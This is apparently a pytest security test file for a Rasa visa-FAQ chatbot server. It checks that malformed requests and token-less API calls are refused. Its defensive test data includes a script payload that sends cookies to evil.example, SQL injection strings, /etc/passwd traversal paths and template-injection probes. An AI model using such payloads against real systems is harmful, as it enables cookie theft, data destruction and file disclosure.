"""Bad input against the real Rasa server: the REST channel (the widget's) and the token-protected HTTP API.

Each case gets a 4xx that says what is wrong (or, for odd but valid text, a sensible reply); a refused
request leaves nothing behind in the tracker store's `events` table or our triage tables; the server is
still up afterwards.
"""

from __future__ import annotations

import http.client
import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import pytest
from sqlalchemy import text

from tests.e2e.conftest import Response, Server
from visafaq.db.engine import make_engine

WEBHOOK = "/webhooks/rest/webhook"


def _json(**fields: object) -> bytes:
    return json.dumps(fields).encode()


@dataclass(frozen=True)
class Case:
    body: bytes | None
    status: int
    says: str
    method: str = "POST"
    path: str = WEBHOOK
    content_type: str = "application/json"
    headers: Mapping[str, str] = field(default_factory=dict)


def rows(server: Server) -> tuple[int, int, int]:
    """How many rows the tracker store's events table and our triage tables hold."""
    with make_engine(server.tracker_url).connect() as tracker:
        events = int(tracker.execute(text("SELECT count(*) FROM events")).scalar_one())
    with make_engine(server.database_url).connect() as store:
        handoffs = int(store.execute(text("SELECT count(*) FROM triage_handoffs")).scalar_one())
        unanswered = int(store.execute(text("SELECT count(*) FROM triage_unanswered")).scalar_one())
    return events, handoffs, unanswered


def raw_request(server: Server, method: str, path: str, body: bytes = b"", headers: Mapping[str, str] = {}) -> Response:
    """A request exactly as written (urllib would normalise the path or refuse odd headers)."""
    url = urlsplit(server.rasa_url)
    connection = http.client.HTTPConnection(url.hostname or "127.0.0.1", url.port, timeout=30)
    try:
        connection.putrequest(method, path, skip_accept_encoding=True)
        for name, value in {"Content-Length": str(len(body)), **headers}.items():
            connection.putheader(name, value)
        connection.endheaders(body)
        response = connection.getresponse()
        return Response(response.status, response.read().decode("utf-8", errors="replace"), dict(response.headers))
    except (ConnectionError, http.client.HTTPException) as error:  # the server hung up: no status line
        return Response(0, f"{type(error).__name__}: {error}")
    finally:
        connection.close()


REST_CASES = {
    "empty-body": Case(b"", 400, "must be a JSON object"),
    "invalid-json": Case(b"{not json", 400, "must be JSON"),
    "truncated-json": Case(b'{"sender": "bad-trunc", "message": "hi"', 400, "must be JSON"),
    "json-array": Case(b'[{"sender": "bad-array", "message": "hi"}]', 400, "JSON object"),
    "json-number": Case(b"42", 400, "JSON object"),
    "json-string": Case(b'"what documents do I need?"', 400, "JSON object"),
    "json-null": Case(b"null", 400, "JSON object"),
    "missing-message": Case(_json(sender="bad-missing"), 400, "'message' must be a string"),
    "message-number": Case(_json(sender="bad-num", message=5), 400, "'message' must be a string"),
    "message-null": Case(_json(sender="bad-null", message=None), 400, "'message' must be a string"),
    "message-list": Case(_json(sender="bad-list", message=["hi"]), 400, "'message' must be a string"),
    "message-object": Case(_json(sender="bad-obj", message={"text": "hi"}), 400, "'message' must be a string"),
    "message-empty": Case(_json(sender="bad-empty", message=""), 400, "empty"),
    "message-whitespace": Case(_json(sender="bad-space", message=" \n\t "), 400, "empty"),
    "message-10000-chars": Case(_json(sender="bad-long", message="a" * 10_000), 413, "longer than 5000"),
    "message-nul": Case(_json(sender="bad-nul", message="visa\x00documents"), 400, "NUL"),
    "message-lone-surrogate": Case(b'{"sender": "bad-surrogate", "message": "visa \\ud800"}', 400, "not valid Unicode"),
    "sender-number": Case(_json(sender=7, message="hi"), 400, "'sender' must be a non-empty string"),
    "sender-list": Case(_json(sender=["a"], message="hi"), 400, "'sender' must be a non-empty string"),
    "sender-empty": Case(_json(sender="", message="hi"), 400, "'sender' must be a non-empty string"),
    "sender-300-chars": Case(_json(sender="s" * 300, message="hi"), 400, "longer than 255"),
    "sender-100-kb": Case(_json(sender="s" * 100_000, message="hi"), 413, "exceeds"),
    "sender-nul": Case(_json(sender="bad\x00sender", message="hi"), 400, "NUL"),
    "invalid-utf8-bytes": Case(b'{"sender": "bad-utf8", "message": "\xff\xfe visa"}', 400, "must be JSON"),
    "metadata-string": Case(_json(sender="bad-meta", message="hi", metadata="x"), 400, "'metadata'"),
    "input-channel-list": Case(_json(sender="bad-chan", message="hi", input_channel=[1]), 400, "'input_channel'"),
    "input-channel-markup": Case(_json(sender="bad-chan2", message="hi", input_channel="<b>"), 400, "'input_channel'"),
    "deeply-nested-json": Case(
        b'{"sender": "bad-deep", "message": "hi", "metadata": {"a": ' + b"[" * 20_000 + b"]" * 20_000 + b"}}",
        400,
        "must be JSON",
    ),
    "form-encoded": Case(
        b"sender=bad-form&message=hi", 400, "must be JSON", content_type="application/x-www-form-urlencoded"
    ),
    "multipart": Case(
        b'--b\r\nContent-Disposition: form-data; name="message"\r\n\r\nhi\r\n--b--\r\n',
        400,
        "must be JSON",
        content_type="multipart/form-data; boundary=b",
    ),
    "oversized-body-200-kb": Case(b'{"sender": "bad-big", "message": "' + b"a" * 200_000 + b'"}', 413, "exceeds"),
    "get-instead-of-post": Case(None, 405, "not allowed", method="GET"),
    "put-instead-of-post": Case(_json(sender="bad-put", message="hi"), 405, "not allowed", method="PUT"),
    "delete": Case(None, 405, "not allowed", method="DELETE"),
    "unknown-channel-path": Case(
        _json(sender="bad-path", message="hi"), 404, "not found", path="/webhooks/nope/webhook"
    ),
}

# The Rasa HTTP API holds every conversation: never without the token, whichever way it is (not) given.
API_CASES = {
    "status-without-token": Case(None, 401, "not authenticated", method="GET", path="/status"),
    "status-wrong-token": Case(None, 401, "not authenticated", method="GET", path="/status?token=wrong"),
    "status-empty-token": Case(None, 401, "not authenticated", method="GET", path="/status?token="),
    "status-bearer-wrong": Case(
        None, 401, "not authenticated", method="GET", path="/status", headers={"Authorization": "Bearer wrong"}
    ),
    "tracker-without-token": Case(None, 401, "not authenticated", method="GET", path="/conversations/bad-api/tracker"),
    "add-message-without-token": Case(
        _json(text="hello", sender="user"), 401, "not authenticated", path="/conversations/bad-api/messages"
    ),
    "add-events-wrong-token": Case(
        _json(event="slot", name="programme", value="titp"),
        401,
        "not authenticated",
        path="/conversations/bad-api/tracker/events?token=wrong",
    ),
    "parse-without-token": Case(_json(text="hello"), 401, "not authenticated", path="/model/parse"),
    "replace-model-without-token": Case(
        _json(model_file="/tmp/evil.tar.gz"), 401, "not authenticated", method="PUT", path="/model"
    ),
    "unload-model-without-token": Case(None, 401, "not authenticated", method="DELETE", path="/model"),
    "train-without-token": Case(b"{}", 401, "not authenticated", path="/model/train"),
}


@pytest.mark.parametrize("case", REST_CASES.values(), ids=REST_CASES.keys())
def test_bad_rest_input_gets_a_4xx_that_says_why_and_stores_nothing(server: Server, case: Case) -> None:
    before = rows(server)
    response = server.request(case.path, case.body, method=case.method, content_type=case.content_type)
    assert response.status == case.status, response.body
    assert case.says.lower() in response.body.lower()
    assert rows(server) == before
    assert server.alive()


@pytest.mark.parametrize("case", API_CASES.values(), ids=API_CASES.keys())
def test_the_http_api_refuses_every_request_without_the_right_token(server: Server, case: Case) -> None:
    before = rows(server)
    response = server.request(case.path, case.body, method=case.method, headers=case.headers)
    assert response.status == case.status, response.body
    assert case.says.lower() in response.body.lower()
    assert rows(server) == before
    assert server.request(f"/status?token={server.token}", method="GET").status == 200  # the model is still there


def test_the_http_api_with_the_token_still_refuses_a_malformed_body(server: Server) -> None:
    before = rows(server)
    response = server.request(f"/conversations/bad-api-2/tracker/events?token={server.token}", b"{not json")
    assert 400 <= response.status < 500, response.body
    assert rows(server) == before
    oversized = server.request(f"/model/parse?token={server.token}", _json(text="a" * 100_000))
    assert oversized.status == 413, oversized.body


@pytest.mark.parametrize(
    ("header", "value"),
    [("X-Padding", "a" * 20_000), ("Cookie", "c=" + "b" * 20_000)],
    ids=["huge-header", "huge-cookie"],
)
def test_a_huge_header_is_refused_and_the_server_stays_up(server: Server, header: str, value: str) -> None:
    before = rows(server)
    body = _json(sender="bad-header", message="hello")
    response = raw_request(server, "POST", WEBHOOK, body, {"Content-Type": "application/json", header: value})
    # Sanic refuses a header block over 8 KiB (REQUEST_MAX_HEADER_SIZE) with 413, or hangs up.
    assert response.status in {0, 400, 413, 431}, response.body
    assert rows(server) == before
    assert server.alive()


def test_a_chunked_body_over_the_limit_is_refused(server: Server) -> None:
    """No Content-Length to check up front: Sanic counts the chunks as they come."""
    url = urlsplit(server.rasa_url)
    connection = http.client.HTTPConnection(url.hostname or "127.0.0.1", url.port, timeout=30)
    chunks = [b'{"sender": "bad-chunked", "message": "'] + [b"a" * 16_384] * 8 + [b'"}']
    before = rows(server)
    try:
        connection.request(
            "POST", WEBHOOK, body=iter(chunks), headers={"Content-Type": "application/json"}, encode_chunked=True
        )
        status = connection.getresponse().status
    except (ConnectionError, http.client.HTTPException):
        status = 0  # hung up on mid-body: refused too
    finally:
        connection.close()
    assert status in {0, 413}
    assert rows(server) == before
    assert server.alive()


def test_path_traversal_on_the_rasa_server_finds_nothing(server: Server) -> None:
    for path in ["/../../etc/passwd", "/webhooks/rest/../../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd"]:
        response = raw_request(server, "GET", path)
        assert response.status == 404, (path, response.status)
        assert "root:" not in response.body
    assert server.alive()


@pytest.mark.parametrize(
    "message",
    [
        "\x01\x02\x1b[31mred\x1b[0m what documents for the trainee visa?",
        "🇯🇵🛂❓",
        "<script>fetch('//evil.example/'+document.cookie)</script>",
        "Robert'); DROP TABLE events;--",
        "1 OR 1=1; SELECT * FROM triage_staff_users",
        "../../../../etc/passwd",
        "{{7*7}} ${7*7} <%= 7*7 %>",
    ],
    ids=["control-characters", "emoji-only", "script", "sql-injection", "sql-select", "path-in-text", "templates"],
)
def test_odd_but_valid_text_gets_a_reply_stored_as_text(server: Server, message: str) -> None:
    sender = f"odd-{abs(hash(message)) % 10**8}"
    replies = server.say(sender, message)
    assert replies and all(isinstance(reply.get("text", ""), str) for reply in replies)
    assert not any("49" in str(reply.get("text", "")) for reply in replies)  # no template was evaluated
    with make_engine(server.tracker_url).connect() as tracker:
        stored = tracker.execute(
            text("SELECT data FROM events WHERE sender_id = :s AND type_name = 'user'"), {"s": sender}
        ).scalars()
        texts = [json.loads(data)["text"] for data in stored]
    assert texts == [message]  # stored exactly as sent, and the tables are all still there
    assert server.alive()
